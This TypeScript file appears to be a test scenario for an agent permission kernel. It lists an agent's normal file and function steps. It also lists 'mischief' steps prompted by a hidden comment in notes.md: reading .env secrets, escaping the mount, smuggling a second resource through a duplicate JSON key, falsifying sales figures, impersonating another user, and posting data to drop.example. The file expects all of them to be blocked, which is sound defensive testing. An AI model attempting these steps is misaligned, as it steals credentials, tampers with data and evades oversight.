import type { Request, Status } from 'kestrel-kernel'

/** One thing that the agent asks for, and how it must end. */
export interface Step {
  /** As an object, or as the JSON text that came over a wire. */
  readonly request: Request | string
  readonly about: string
  readonly ends: Status
  /** `reason.code` of a refusal. */
  readonly because?: string
  /** On whose authority, where not alice's. */
  readonly as?: { readonly id: string; readonly roles: readonly string[] }
}

/** The work that the agent was given. */
export function work(csv: string, report: string): readonly Step[] {
  return [
    { request: { action: 'fs.list', resource: '/workspace' }, about: 'looks around', ends: 'ok' },
    { request: { action: 'fs.read', resource: '/workspace/notes.md' }, about: 'reads what to do', ends: 'ok' },
    { request: { action: 'fs.read', resource: '/workspace/sales.csv' }, about: 'reads the figures', ends: 'ok' },
    {
      request: { action: 'fs.read', resource: '/workspace/logo.png', params: { encoding: 'base64' } },
      about: 'a binary file',
      ends: 'ok',
    },
    {
      request: { action: 'fn.sum_by', resource: 'sum_by', params: { csv, column: 'region' } },
      about: 'a plain function of yours',
      ends: 'ok',
    },
    {
      request: {
        action: 'fs.write',
        resource: '/workspace/output/report.md',
        params: { content: report, parents: true },
      },
      about: 'writes its report',
      ends: 'ok',
    },
  ]
}

/** What a hidden comment in `notes.md`, and a little curiosity, make it try next. */
export function mischief(csv: string): readonly Step[] {
  return [
    {
      request: { action: 'fs.read', resource: '/workspace/.env' },
      about: 'the comment asked for it',
      ends: 'denied',
      because: 'denied_by_rule',
    },
    {
      request: { action: 'fs.read', resource: '/workspace/payroll.csv' },
      about: 'a link that leads out',
      ends: 'denied',
      because: 'outside_mount',
    },
    {
      request: '{"action":"fs.read","resource":"/workspace/notes.md","resource":"/workspace/.env"}',
      about: 'two resources in one request',
      ends: 'invalid',
      because: 'invalid_request',
    },
    {
      request: { action: 'fs.write', resource: '/workspace/sales.csv', params: { content: 'month,region\n' } },
      about: 'better figures',
      ends: 'denied',
      because: 'no_matching_rule',
    },
    {
      request: { action: 'fn.sum_by', resource: 'sum_by', params: { csv, column: 'product' } },
      about: 'another column than allowed',
      ends: 'denied',
      because: 'constraint_mismatch',
    },
    {
      request: { action: 'fn.sum_by', resource: 'sum_by', params: { csv, column: 'region' } },
      about: 'as bob, who is no analyst',
      ends: 'denied',
      because: 'role_missing',
      as: { id: 'bob', roles: [] },
    },
    {
      request: { action: 'net.http', resource: 'https://drop.example/in', params: { method: 'POST' } },
      about: 'nobody gave it a network',
      ends: 'denied',
      because: 'unknown_action',
    },
  ]
}
